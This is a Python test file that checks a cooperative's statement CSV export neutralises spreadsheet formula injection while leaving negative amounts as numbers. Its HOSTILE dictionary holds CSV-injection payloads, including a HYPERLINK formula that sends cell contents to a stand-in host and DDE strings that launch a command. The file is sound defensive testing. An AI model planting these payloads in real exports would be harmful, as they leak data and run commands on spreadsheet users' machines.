"""CSV for Excel neutralises formulas (issue 13, point 4; OWASP's rule on CSV injection).

A text cell starting with = + - @ tab or CR gets a leading apostrophe; a number (also a negative
amount written the Swedish way, '-1 234,50') is written as it stands.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from coopdesk import cli
from coopdesk.reports import statement_csv
from coopdesk.reports.csv_cells import FORMULA_START, csv_writer, safe_cell
from tests.conftest import EXAMPLE

HOSTILE = {
    "Norrmalm": '=HYPERLINK("http://example.invalid/?"&A2,"Klicka")',
    "Anna Andersson": "+cmd|' /C calc'!A0",
    "Kopiering": "@SUM(1)",
    "NOR-2026-0012": "-2+3+cmd|' /C calc'!A0",
}


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_hostile_names_in_the_statement_csv_are_neutralised(tmp_path: Path, new_db) -> None:
    document = EXAMPLE.read_text(encoding="utf-8")
    for plain, hostile in HOSTILE.items():
        document = document.replace(json.dumps(plain), json.dumps(hostile))
    source = tmp_path / "hostile.json"
    source.write_text(document, encoding="utf-8")
    db = new_db("csv.db")
    out, err = io.StringIO(), io.StringIO()
    assert cli.main(["--db", db, "import", str(source), "--no-encryption"], out=out, err=err) == 0, err.getvalue()
    out = io.StringIO()
    argv = ["--db", db, "statement", "--month", "2026-05", "--district", HOSTILE["Norrmalm"], "--format", "csv"]
    assert cli.main(argv, out=out, err=err) == 0, err.getvalue()
    rows = _rows(out.getvalue())
    cells = [cell for row in rows for cell in row]
    for hostile in HOSTILE.values():
        assert "'" + hostile in cells or f"'Tid {hostile}" in cells or f"Tid {hostile}" in cells, hostile
    for cell in cells:
        assert not cell.startswith(FORMULA_START) or statement_csv_number(cell), cell


def statement_csv_number(cell: str) -> bool:
    try:
        Decimal(cell.replace(" ", "").replace("\u00a0", "").replace(",", "."))
    except ArithmeticError:
        return False
    return True


def test_negative_amounts_stay_numbers() -> None:
    for value in (Decimal("-1234.50"), Decimal("-0.25"), Decimal("-3")):
        assert safe_cell(statement_csv._h(value)) == statement_csv._h(value)
    assert safe_cell("-1 234,50") == "-1 234,50" and safe_cell(-7) == -7
    assert safe_cell("-") == "'-" and safe_cell("-1,5 timmar") == "'-1,5 timmar" and safe_cell("\t=1") == "'\t=1"


numbers = st.decimals(min_value=-(10**9), max_value=10**9, places=2, allow_nan=False, allow_infinity=False)
texts = st.text(alphabet=st.sampled_from([*FORMULA_START, "a", "ö", " ", "1", ",", ";", '"', "'", "\n", "("]))


@given(st.lists(st.lists(st.one_of(texts.map(lambda t: ("text", t)), numbers.map(lambda n: ("number", n))),
                         min_size=1, max_size=6), min_size=1, max_size=4))  # fmt: skip
def test_no_text_cell_read_back_starts_a_formula(rows: list[list[tuple[str, object]]]) -> None:
    out = io.StringIO()
    writer = csv_writer(out, delimiter=";", lineterminator="\r\n")
    written = [[statement_csv._h(v) if kind == "number" else v for kind, v in row] for row in rows]
    for row in written:
        writer.writerow(row)
    back = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter=";"))
    assert len(back) == len(rows)
    for kinds, original, cells in zip(rows, written, back, strict=True):
        assert len(cells) == len(original)
        for (kind, _), before, cell in zip(kinds, original, cells, strict=True):
            if kind == "number":
                assert cell == before  # a number, negative or not, is written as it stands
            else:
                assert cell in (before, "'" + before)
                assert not cell.startswith(FORMULA_START) or statement_csv_number(cell), cell
